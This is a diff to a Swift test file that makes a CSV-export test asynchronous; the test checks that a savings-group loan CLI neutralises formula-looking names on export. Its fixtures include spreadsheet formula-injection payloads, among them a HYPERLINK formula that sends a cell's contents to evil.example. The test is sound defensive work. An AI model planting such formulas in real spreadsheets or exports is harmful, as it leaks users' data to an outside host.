@@ -40,20 +40,20 @@ import Testing
         return Double(cell) == nil || cell.hasPrefix("+")
     }
 
-    @Test func everyCSVExportNeutralisesFormulaLookingNames() throws {
+    @Test func everyCSVExportNeutralisesFormulaLookingNames() async throws {
         let cli = try CLI()
         defer { cli.cleanUp() }
-        try cli.ok(["load", BadInput.path("yaml/organisation-formula-names.yaml")])
-        try cli.ok(["groups", "import", BadInput.path("csv/groups-formula-names.csv")])
-        try cli.ok(["import", "loans", BadInput.path("csv/loans-formula-names.csv"), "--month", "2024-02"])
+        try await cli.succeeds(["load", BadInput.path("yaml/organisation-formula-names.yaml")])
+        try await cli.succeeds(["groups", "import", BadInput.path("csv/groups-formula-names.csv")])
+        try await cli.succeeds(["import", "loans", BadInput.path("csv/loans-formula-names.csv"), "--month", "2024-02"])
         // Accepted as data, stored verbatim.
-        #expect(try sqlite(cli.database, "SELECT borrower_name FROM loan WHERE loan_id = '=LN-1'") == "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Bấm vào đây\")")
+        #expect(try await cli.sql("SELECT borrower_name FROM loan WHERE loan_id = '=LN-1'") == "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Bấm vào đây\")")
         // Leading tabs and CRs are trimmed from CSV cells on import; the CLI keeps them, so two groups get theirs here.
-        #expect(try sqlite(cli.database, "SELECT name FROM savings_group WHERE code = 'TS-G13'") == "=1+1")
-        try cli.ok(["groups", "update", "TS-G12", "--name", "\r=3+3"])
-        try cli.ok(["groups", "update", "TS-G13", "--name", "\t=2+2"])
-        try cli.ok(["evaluate", "--month", "2024-02"])
-        try cli.ok(["plan", "set", "--year", "2024", "--outstanding", "1000M"])
+        #expect(try await cli.sql("SELECT name FROM savings_group WHERE code = 'TS-G13'") == "=1+1")
+        try await cli.succeeds(["groups", "update", "TS-G12", "--name", "\r=3+3"])
+        try await cli.succeeds(["groups", "update", "TS-G13", "--name", "\t=2+2"])
+        try await cli.succeeds(["evaluate", "--month", "2024-02"])
+        try await cli.succeeds(["plan", "set", "--year", "2024", "--outstanding", "1000M"])
 
         let commune = "'=HYPERLINK(\"\"http://evil.example/?c=\"\"&A1"
         let exports: [(arguments: [String], neutralised: [String])] = [
@@ -67,7 +67,7 @@ import Testing
         for (arguments, neutralised) in exports {
             for lang in ["vi", "en"] {
                 let command = arguments + ["--format", "csv", "--lang", lang]
-                let output = try cli.run(command)
+                let output = try await cli.run(command)
                 #expect(output.status == 0, "entrust \(command.joined(separator: " ")): \(output.stderr)")
                 let rows = Self.cells(output.stdout)
                 #expect(rows.count >= 2, "entrust \(command.joined(separator: " ")) exported nothing: \(output.stdout)")
